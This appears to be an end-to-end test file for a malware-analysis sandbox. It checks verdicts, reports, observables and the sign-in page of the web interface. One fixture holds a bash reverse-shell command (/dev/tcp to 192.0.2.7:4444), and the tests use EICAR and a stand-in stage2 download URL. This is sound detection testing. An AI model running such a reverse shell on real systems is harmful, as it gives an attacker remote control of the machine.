import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { reportSchema } from "@fumehood/contract";
import type { Browser, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launchBrowser } from "../support/browser.ts";
import { jsonLines, runFumehood, serve, type Served } from "../support/fumehood-process.ts";
import { buildNestedZip } from "../support/main-job-files.ts";

let folder: string;
let served: Served;
let lines: Record<string, unknown>[];
let submitExit: number | null;

const byName = (name: string) => {
  const line = lines.find((each) => each.name === name);
  if (line === undefined) throw new Error(`no line for ${name}: ${JSON.stringify(lines)}`);
  return line;
};
const cli = (...args: string[]) => runFumehood(["--data", folder, ...args], { home: folder });

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "fumehood-e2e-"));
  served = await serve(folder);
  await writeFile(join(folder, "some.zip"), buildNestedZip());
  const ran = await cli("submit", "some.zip", "--wait", "--json", "--fail-on", "suspicious");
  submitExit = ran.code;
  lines = jsonLines(ran);
});
afterAll(async () => {
  const code = await served.end("SIGINT");
  await rm(folder, { recursive: true, force: true });
  expect(code, served.stderr()).toBe(0);
});

describe("a nested zip on the command line", () => {
  test("every member, and both archives, have a line of their own", () => {
    expect(lines.map((line) => String(line.name)).toSorted()).toEqual([
      "attachments.zip",
      "eicar.com",
      "invoice.exe",
      "readme.txt",
      "some.zip",
    ]);
  });

  test("archives are unpacked, members are submitted and analysed", () => {
    expect(byName("some.zip")).toMatchObject({ decision: "unpacked", itemState: "expanded", sampleId: null });
    expect(byName("attachments.zip")).toMatchObject({ decision: "unpacked", parent: byName("some.zip").item });
    for (const name of ["invoice.exe", "eicar.com", "readme.txt"]) {
      expect(byName(name)).toMatchObject({ decision: "submitted", state: "succ", itemState: "done" });
      expect(byName(name).sampleId).toMatch(/^[0-9a-f]{32}$/);
    }
  });

  test("the verdicts are those of the files", () => {
    expect(byName("eicar.com")).toMatchObject({ verdict: "malicious" });
    expect(byName("eicar.com").threatScore).toBeGreaterThanOrEqual(85);
    expect(byName("invoice.exe").threatScore).toBeGreaterThanOrEqual(50);
    expect(byName("invoice.exe").indicatorCount).toBeGreaterThanOrEqual(2);
    expect(byName("readme.txt")).toMatchObject({ verdict: "clean", threatScore: 0 });
  });

  test("the exit code tells that a verdict reached the level", () => {
    expect(submitExit).toBe(10);
  });

  test("the ledger explains every item, stage by stage", async () => {
    for (const line of lines) {
      const [status] = jsonLines(await cli("status", String(line.item), "--json"));
      const ledger = status?.ledger as { stage: string; reason: { text: string } }[];
      expect(ledger.map((entry) => entry.stage).slice(0, 3)).toEqual(["intake", "identify", "gate"]);
      expect(ledger.every((entry) => entry.reason.text.length > 5)).toBe(true);
    }
  });

  test("each analysed member has a report with evidence for its indicators", async () => {
    for (const name of ["invoice.exe", "eicar.com", "readme.txt"]) {
      const ran = await cli("report", String(byName(name).item), "--format", "json");
      const report = reportSchema.parse(JSON.parse(ran.stdout));
      expect(report.verdict.score).toBe(byName(name).threatScore);
      expect(report.sample.sha256).toBe(byName(name).sha256);
      expect(report.indicators.length).toBe(byName(name).indicatorCount);
      for (const indicator of report.indicators) expect(indicator.evidence.length, indicator.name).toBeGreaterThan(0);
    }
  });

  test("observables come as CSV, defanged for reading and raw on demand", async () => {
    const id = String(byName("invoice.exe").item);
    const raw = await cli("iocs", id, "--format", "txt", "--raw");
    expect(raw.stdout.split("\n")).toContain("http://cdn.example.com/stage2.bin");
    const defanged = await cli("iocs", id, "--format", "txt");
    expect(defanged.stdout).toContain("hxxp://cdn[.]example[.]com/stage2.bin");
    const csv = await cli("iocs", id, "--format", "csv");
    expect(csv.stdout).toContain(String(byName("invoice.exe").sha256));
  });

  test("the sample comes back only as an encrypted zip", async () => {
    const file = join(folder, "back.zip");
    const ran = await cli("fetch", String(byName("eicar.com").item), "--element", "sample.zip", "--output", file);
    expect(ran.code, ran.stderr).toBe(0);
    const bytes = await readFile(file);
    expect(bytes.readUInt32LE(0)).toBe(0x04034b50);
    expect(bytes.readUInt16LE(6) & 1, "encrypted").toBe(1);
  });

  test("the same file again is not sent again, and the answer is the same", async () => {
    const again = jsonLines(await cli("submit", "some.zip", "--wait", "--json"));
    const eicarAgain = again.find((line) => line.name === "eicar.com");
    expect(eicarAgain).toMatchObject({
      decision: "duplicate",
      verdict: "malicious",
      sampleId: byName("eicar.com").sampleId,
    });
  });
});

describe("the same in the page", () => {
  let browser: Browser;
  let page: Page;
  const problems: string[] = [];

  beforeAll(async () => {
    browser = await launchBrowser();
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    page = await context.newPage();
    page.on("console", (message) => {
      if (message.type() === "error") problems.push(message.text());
    });
    page.on("pageerror", (error) => problems.push(error.message));
  });
  afterAll(() => browser.close());

  /** Waits until it is shown, and says whether it is. */
  async function isShown(locator: Locator): Promise<boolean> {
    await locator.first().waitFor();
    return locator.first().isVisible();
  }

  test("nobody gets in without the link, and the page says how", async () => {
    await page.goto(served.url);
    expect(await isShown(page.getByText(/npm start/))).toBe(true);
    expect(await page.getByRole("link", { name: "Samples" }).count()).toBe(0);
    problems.length = 0; // the 401 of the first request is what this test is about
  });

  test("the one-time link signs in, once", async () => {
    await page.goto(served.signInUrl);
    expect(await isShown(page.getByRole("link", { name: "Samples" }))).toBe(true);
    const other = await browser.newContext();
    const stranger = await other.newPage();
    await stranger.goto(served.signInUrl);
    expect(await isShown(stranger.getByText(/npm start/))).toBe(true);
    await other.close();
  });

  test("dropped files are seen moving to their verdict", async () => {
    await page.goto(served.url);
    await page.setInputFiles("input[type=file] >> nth=0", {
      name: "run-me.sh",
      mimeType: "application/octet-stream",
      buffer: Buffer.from("#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"),
    });
    await page.getByRole("button", { name: /^Submit 1 item/ }).click();
    const row = page.getByRole("row").filter({ hasText: "run-me.sh" }).first();
    expect(await isShown(row)).toBe(true);
    expect(await isShown(row.getByText("Malicious"))).toBe(true);
  });

  test("a sample's page shows score, indicators with evidence, and observables to copy", async () => {
    await page.goto(`${served.url}/samples/${String(byName("invoice.exe").item)}`);
    expect(await isShown(page.getByRole("heading", { name: /invoice\.exe/ }))).toBe(true);
    expect(await isShown(page.getByText("hxxp://cdn[.]example[.]com/stage2.bin"))).toBe(true);
    expect(await isShown(page.getByRole("heading", { name: /Indicators/ }))).toBe(true);
    expect(await isShown(page.getByRole("heading", { name: /Observables/ }))).toBe(true);
  });

  test("neither the content policy nor a script complained", () => {
    expect(problems).toEqual([]);
  });
});
